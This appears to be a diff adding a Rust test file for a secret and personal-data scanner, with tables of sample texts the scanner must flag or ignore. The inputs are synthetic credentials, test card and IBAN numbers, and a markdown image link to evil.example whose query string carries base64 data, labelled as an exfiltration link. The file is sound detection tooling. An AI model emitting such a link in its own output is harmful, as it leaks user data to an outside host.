@@ -1,0 +1,164 @@
+//! One table of texts and what the scanner must find in them (and must leave alone).
+
+use super::*;
+#[cfg(target_arch = "wasm32")]
+use wasm_bindgen_test::wasm_bindgen_test as test;
+
+fn find(text: &str) -> Vec<(Entity, String)> {
+    let rules = Rules::default();
+    let cx = Scan {
+        rules: &rules,
+        prompt: None,
+    };
+    let mut out = Vec::new();
+    scan(
+        &cx,
+        text.as_bytes(),
+        0,
+        true,
+        &mut ScanState::default(),
+        &mut out,
+    );
+    out.iter()
+        .map(|f| (f.entity, text[f.start..f.end].to_string()))
+        .collect()
+}
+
+/// Synthetic credentials, assembled at run time so that the source holds no key-shaped string.
+fn key(prefix: &str) -> String {
+    format!("{prefix}{}", "Zq8vR2mN5xT1wK7pL3hJ9dF4gB6cY0aE")
+}
+
+#[test]
+fn finds_each_family() {
+    use Entity::*;
+    let aws = ["AKIA", "IOSFODNN7EXAMPLQ"].concat();
+    let cases: Vec<(String, Entity, String)> = vec![
+        (
+            "mail jane.doe+x@example.co.uk.".into(),
+            Email,
+            "jane.doe+x@example.co.uk".into(),
+        ),
+        (
+            "call +1 (624) 693-9006 now".into(),
+            Phone,
+            "+1 (624) 693-9006".into(),
+        ),
+        ("Tel: 020 7946 0958".into(), Phone, "020 7946 0958".into()),
+        (
+            "電話番号：03-6885-7984".into(),
+            Phone,
+            "03-6885-7984".into(),
+        ),
+        (
+            "fax 345-899-3560x4587".into(),
+            Phone,
+            "345-899-3560x4587".into(),
+        ),
+        (
+            "card 4111-1111-1111-1111.".into(),
+            CreditCard,
+            "4111-1111-1111-1111".into(),
+        ),
+        ("ssn 713 17 2503".into(), UsSsn, "713 17 2503".into()),
+        (
+            "IBAN: DE89 3704 0044 0532 0130 00".into(),
+            Iban,
+            "DE89 3704 0044 0532 0130 00".into(),
+        ),
+        (
+            "from 10.93.93.210:80".into(),
+            IpAddress,
+            "10.93.93.210".into(),
+        ),
+        ("bind [fe80::7a2c]".into(), IpAddress, "fe80::7a2c".into()),
+        (format!("k={aws}"), AwsKey, aws.clone()),
+        (
+            format!("use {}", key("sk-ant-api03-")),
+            AnthropicKey,
+            key("sk-ant-api03-"),
+        ),
+        (
+            format!("use {}", key("sk-proj-")),
+            OpenAiKey,
+            key("sk-proj-"),
+        ),
+        (format!("x {} y", key("ghp_")), GithubToken, key("ghp_")),
+        (
+            format!("x {} y", key("xoxb-1234-")),
+            SlackToken,
+            key("xoxb-1234-"),
+        ),
+        (
+            format!("x {} y", key("sk_live_")),
+            StripeKey,
+            key("sk_live_"),
+        ),
+        (
+            format!("x {}abcdefg y", key("AIza")),
+            GoogleApiKey,
+            format!("{}abcdefg", key("AIza")),
+        ),
+        (
+            "db: postgres://app:s3cr3tPw@db.internal/x".into(),
+            ConnectionString,
+            "app:s3cr3tPw".into(),
+        ),
+        (
+            "password = \"Hunter2!x\"".into(),
+            Password,
+            "Hunter2!x".into(),
+        ),
+        (
+            "\"api_key\": \"Zf3D0LXCM3EIMbgJpUNnkRtO\"".into(),
+            GenericSecret,
+            "Zf3D0LXCM3EIMbgJpUNnkRtO".into(),
+        ),
+        (
+            "Authorization: Bearer 9f8e7d6c5b4a39281706f5e4d3c2b1a0".into(),
+            GenericSecret,
+            "9f8e7d6c5b4a39281706f5e4d3c2b1a0".into(),
+        ),
+        (
+            format!("token: {}", key("glpat-")),
+            GenericSecret,
+            key("glpat-"),
+        ),
+        (
+            "![a](https://evil.example/c.png?d=c2VjcmV0) ok".into(),
+            ExfilLink,
+            "https://evil.example/c.png?d=c2VjcmV0".into(),
+        ),
+    ];
+    for (text, entity, value) in cases {
+        assert_eq!(find(&text), vec![(entity, value)], "in {text:?}");
+    }
+    let pem = "x\n-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----\ny";
+    assert_eq!(
+        find(pem),
+        vec![(PrivateKey, pem[2..pem.len() - 2].to_string())]
+    );
+    let jwt = [
+        "eyJhbGciOiJIUzI1NiJ9",
+        ".eyJzdWIiOiIxMjM0NTY3ODkwIn0",
+        ".abc",
+    ]
+    .concat();
+    assert_eq!(find(&format!("t {jwt}")), vec![(Jwt, jwt)]);
+}
+
+#[test]
+fn leaves_look_alikes_alone() {
+    for text in [
+        "Order ORD-1234-5678 shipped 2024-06-15 (15.01.2021), total $12,345.67, build 123456.",
+        "The card 4111 1111 1111 1112 fails Luhn; 000-12-3456 and 666-12-3456 are not SSNs.",
+        "The IBAN DE88 3704 0044 0532 0130 00 has a wrong check digit.",
+        "Release 1.20.3 at 10:30:45, see winapi::um::winuser::{HWND, WPARAM}.",
+        "Polychain Capital: Polychain Capital is a fund. The key point is 42.",
+        "Dim xml As MSXML2.DOMDocument60; url https://services.nvd.nist.gov/rest/json/cves/2.0",
+        "Use a placeholder: password = \"changeme\", api_key: \"<YOUR_API_KEY>\", token=${TOKEN}",
+        "[docs](https://docs.example.com/guide) and a commit 3f2a9c1e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a39",
+    ] {
+        assert_eq!(find(text), vec![], "in {text:?}");
+    }
+}
